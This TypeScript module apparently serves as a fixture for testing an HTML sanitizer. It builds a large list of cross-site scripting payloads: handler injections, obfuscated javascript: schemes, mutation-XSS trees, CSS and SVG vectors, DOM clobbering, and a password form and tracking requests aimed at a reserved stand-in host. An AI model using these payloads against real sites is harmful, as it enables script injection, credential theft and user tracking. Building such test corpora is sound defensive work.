/** What every payload tries to do; tests read `window.__xss`. */
export const CODE = 'window.__xss=1';
/** The host that every payload tries to reach; reserved, so that nothing answers. */
export const FOREIGN = 'https://foreign.invalid';

const SCRIPT = `<script>${CODE}</script>`;
const IMAGE = `<img src=x onerror=${CODE}>`;

/** Elements that call a handler by themselves, or when a reader comes near them. */
const HANDLERS = [
  ...[
    'img src=x|onerror',
    'img src=x|onload',
    'image src=x|onerror',
    'svg|onload',
    'svg|onbegin',
    'body|onload',
  ],
  ...[
    'body|onpageshow',
    'body|onhashchange',
    'body|onscroll',
    'body|onresize',
    'body|onfocus',
    'html|onclick',
  ],
  ...[
    'input autofocus|onfocus',
    'textarea autofocus|onfocus',
    'select autofocus|onfocus',
    'keygen autofocus|onfocus',
  ],
  ...[
    'details open|ontoggle',
    'marquee|onstart',
    'marquee|onfinish',
    'video src=x|onerror',
    'audio src=x|onerror',
  ],
  ...[
    'video autoplay|oncanplay',
    'source src=x|onerror',
    'track src=x|onerror',
    'object data=x|onerror',
    'embed src=x|onload',
  ],
  ...[
    'iframe|onload',
    'frameset|onload',
    'style|onload',
    'link rel=stylesheet href=x|onerror',
    'script src=x|onerror',
  ],
  ...[
    'p|onclick',
    'p|onmouseover',
    'div|onpointerenter',
    'a href=#|onfocus',
    'b style=animation-name:x|onanimationstart',
  ],
  ...[
    'div style=transition:1s|ontransitionend',
    'div popover|onbeforetoggle',
    'form|onsubmit',
    'td|oncopy',
    'li|ondrag',
  ],
  ...[
    'h2|oncontextmenu',
    'em|onwheel',
    'x-y contenteditable|onbeforeinput',
    'dialog open|onclose',
    'meter|onkeydown',
  ],
].map((row) => row.split('|'));
const handlers = HANDLERS.flatMap(([tag = '', event = ''], at) => {
  const name = at % 3 === 0 ? event.toUpperCase() : event;
  const gap = [' ', '\n', '/', '\t', '\f'][at % 5] ?? ' ';
  return [`<${tag}${gap}${name}=${at % 2 === 0 ? `"${CODE}"` : CODE}>text</${tag.split(' ')[0]}>`];
});

/** Ways to write the scheme so that a filter does not see it. */
export const SCRIPT_ADDRESSES = [
  ...[
    'javascript:',
    'JavaScript:',
    'JAVASCRIPT:',
    ' javascript:',
    '\tjavascript:',
    '\njavascript:',
    '\0javascript:',
  ],
  ...[
    'java\tscript:',
    'java\nscript:',
    'java\r\nscript:',
    'j\na\nv\na\ns\nc\nr\ni\np\nt:',
    'javascript\t:',
    'javascript&colon;',
  ],
  ...[
    'java&Tab;script:',
    'java&NewLine;script:',
    '&#106;avascript:',
    '&#x6A;avascript:',
    '&#0000106avascript:',
    '&#x6a&#x61vascript:',
  ],
  ...[
    '&#1;javascript:',
    '&#14;javascript:',
    '&#x20;javascript:',
    '\u00a0javascript:',
    '\u200bjavascript:',
    '\ufeffjavascript:',
  ],
  ...[
    '\u2028javascript:',
    'java\u00adscript:',
    'javascript:/*--></title>*/',
    'javascript://a.example/%0a',
    'feed:javascript:',
  ],
  ...['view-source:javascript:', 'vbscript:', 'livescript:', 'mocha:', 'jar:javascript:'],
].map((scheme) => `${scheme}${CODE}`);
const links = SCRIPT_ADDRESSES.map((address) => `<a href="${address}">text</a>`);

/** Every attribute that takes an address. */
const CARRIERS = [
  ...[
    'iframe src',
    'frame src',
    'object data',
    'embed src',
    'form action',
    'button formaction',
    'input type=submit formaction',
  ],
  ...[
    'input type=image src',
    'area href',
    'base href',
    'link rel=import href',
    'link rel=stylesheet href',
    'img src',
    'img srcset',
  ],
  ...[
    'img lowsrc',
    'img dynsrc',
    'img longdesc',
    'video src',
    'video poster',
    'audio src',
    'source src',
    'track src',
    'body background',
  ],
  ...[
    'table background',
    'td background',
    'blockquote cite',
    'q cite',
    'ins cite',
    'applet code',
    'isindex action',
    'bgsound src',
  ],
  ...[
    'html manifest',
    'head profile',
    'command icon',
    'a ping',
    'portal src',
    'fencedframe src',
    'div itemid',
    'menuitem icon',
  ],
];
const carriers = CARRIERS.map(
  (carrier) => `<${carrier}="javascript:${CODE}">text</${carrier.split(' ')[0]}>`,
);

const data = [
  `<a href="data:text/html,${SCRIPT}">a</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">a</a>`,
  `<iframe src="data:text/html,${SCRIPT}"></iframe>`,
  `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>"></object>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>">`,
  `<script src="data:,${CODE}"></script>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(${FOREIGN})}">`,
];

const framed = ['<', '&lt;', '&#60;', '&#x3c;', '&amp;lt;'].map(
  (sign) => `<iframe srcdoc="${sign}script>parent.${CODE}${sign}/script>"></iframe>`,
);

const styles = [
  `<style>*{background:url(${FOREIGN}/a)}</style>a`,
  `<style>@import '${FOREIGN}/a.css';</style>a`,
  `<style><img src="</style>${IMAGE}">`,
  `<p style="background:url(${FOREIGN}/a)">a</p>`,
  `<p style="width:expression(${CODE})">a</p>`,
  `<p style="-moz-binding:url(${FOREIGN}/a#x)">a</p>`,
  `<p style="behavior:url(${FOREIGN}/a.htc)">a</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">a</p>`,
  `<font style='font-family:"</style>${IMAGE}'>a</font>`,
  `<div style="content:url(${FOREIGN}/a)">a</div>`,
];

/** Trees that a parser builds differently the second time. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;">`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<math><annotation-xml encoding="text/html"><style>${IMAGE}</style></annotation-xml></math>`,
  `<svg><foreignObject><p>${SCRIPT}</p></foreignObject></svg>`,
  `<svg><title><style>${IMAGE}</style></title></svg>`,
  `<svg><desc><noscript><img title="</noscript>${IMAGE}"></desc></svg>`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<noembed><img title="</noembed>${IMAGE}"></noembed>`,
  `<noframes><img title="</noframes>${IMAGE}"></noframes>`,
  `<xmp><p title="</xmp>${IMAGE}"></xmp>`,
  `<select><style></select>${IMAGE}</style>`,
  `<table><caption><svg><style><table><tr><td>${IMAGE}`,
  `<svg><![CDATA[><img src=x onerror=${CODE}>]]></svg>`,
  `<math><mi><![CDATA[</mi>${IMAGE}]]></math>`,
  `<template><svg><style><img title="</style></template>${IMAGE}"></style></svg>`,
  `<div><template shadowrootmode=open>${SCRIPT}</template></div>`,
  `<table><td>${'<b>'.repeat(3)}<table><mglyph><style><img title="</style>${IMAGE}">`,
  `<p><svg><p><style><g title="</style>${IMAGE}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${IMAGE}">`,
  `<svg><style>&lt;img src=x onerror=${CODE}&gt;</style></svg>`,
  `<title><svg></title>${IMAGE}</svg>`,
  `<textarea><img title="</textarea>${IMAGE}">`,
  `<option><style></option></select>${IMAGE}</style>`,
];

/** Elements of other vocabularies, and what moves them. */
const vectors = [
  `<svg>${SCRIPT}</svg>`,
  `<svg><script href="data:,${CODE}"/></svg>`,
  `<svg><a xlink:href="javascript:${CODE}"><text>a</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${CODE}"/><text>a</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${CODE}"/></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CODE}'/>#x"></svg>`,
  `<svg><image href="${FOREIGN}/a.png"/></svg>`,
  `<svg><handler>${CODE}</handler></svg>`,
  `<math href="javascript:${CODE}">a</math>`,
  `<math><maction actiontype="statusline#${FOREIGN}" xlink:href="javascript:${CODE}">a</maction></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${CODE}</script></annotation-xml></semantics></math>`,
];

/** Names that hide what the page itself uses. */
const clobbering = [
  ...[
    'id=root',
    'id=first-paint',
    'id=preload',
    'name=location',
    'name=body',
    'name=cookie',
    'id=getElementById',
  ],
  ...[
    'id=__rcepEarly',
    'name=__proto__',
    'id=constructor',
    'name=defaultView',
    'class=overlay',
    'slot=x',
    'is=x-y',
    'part=x',
  ],
].map((name, at) =>
  at % 2 === 0
    ? `<img ${name}><p ${name}>a</p>`
    : `<form ${name}><input ${name}></form><a ${name} href=#>a</a>`,
);

const pageWide = [
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<meta name=referrer content=unsafe-url>`,
  `<base href="${FOREIGN}/"><a href="a">a</a>`,
  `<base target=_top><a href="https://a.example">a</a>`,
  `<form action="${FOREIGN}"><input name=password><button>sign in</button></form>`,
  `<form id=x></form><button form=x formaction="${FOREIGN}">a</button>`,
  `<a href="https://a.example" target=_top rel=opener ping="${FOREIGN}">a</a>`,
  `<html><head><title>x</title></head><body onload=${CODE}><p>a</p></body></html>`,
  `<link rel=prefetch href="${FOREIGN}/a"><link rel=preconnect href="${FOREIGN}"><link rel=dns-prefetch href="${FOREIGN}">`,
  `<dialog open><form method=dialog><button value="${CODE}">a</button></form></dialog>`,
];

/** Pictures, films and the like that would tell a host who reads. */
const requests = [
  ...[
    '<img src="%">',
    '<img srcset="% 1x">',
    '<img loading=eager src=%>',
    '<picture><source srcset="%"><img></picture>',
  ],
  ...[
    '<video src="%" autoplay></video>',
    '<video poster="%"></video>',
    '<audio src="%" autoplay></audio>',
    '<object data="%"></object>',
  ],
  ...[
    '<embed src="%">',
    '<iframe src="%"></iframe>',
    '<input type=image src="%">',
    '<script src="%"></script>',
  ],
  ...[
    '<img src="//foreign.invalid/a">',
    '<img src="\\\\foreign.invalid\\a">',
    '<img src="https:foreign.invalid/a">',
  ],
  ...[
    '<table background="%"><tr><td>a</td></tr></table>',
    '<a href="https://user:pass@foreign.invalid/">a</a>',
  ],
].map((html) => html.replace('%', `${FOREIGN}/a`));

/** What reads as markup to one parser and as text to another. */
const tricks = [
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<script/x>${CODE}</script>`,
  `<script\n>${CODE}</script\n>`,
  `<SCRIPT>${CODE}</SCRIPT>`,
  `<script>${CODE}`,
  `<<script>${CODE}//<</script>`,
  `<img src="x\` \`<script>${CODE}</script>"\` \`>`,
  `<img """>${SCRIPT}">`,
  `<p a='>' ${IMAGE}>a</p>`,
  `<!-- --!>${IMAGE} -->`,
  `<!--><img src=x onerror=${CODE}>-->`,
  `<!--[if IE]>${SCRIPT}<![endif]-->`,
  `<?xml version="1.0"?>${IMAGE}`,
  `<!DOCTYPE html [<!ENTITY x "${IMAGE}">]>&x;`,
  `</p${IMAGE}>`,
  `<plaintext>${SCRIPT}`,
  `<a href="https://a.example/&quot; onmouseover=&quot;${CODE}">a</a>`,
  `<img alt="&lt;script&gt;${CODE}&lt;/script&gt;">`,
  `${'<div>'.repeat(600)}${IMAGE}`,
  `\u202e${SCRIPT}\u202c`,
  `<img src=x onerror=${CODE}`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
];

/** HTML that tries to act, written from the public categories of such tries. */
export const HTML_PAYLOADS: readonly string[] = [
  ...[
    handlers,
    links,
    carriers,
    data,
    framed,
    styles,
    mutations,
    vectors,
    clobbering,
    pageWide,
    requests,
    tricks,
  ],
].flat();
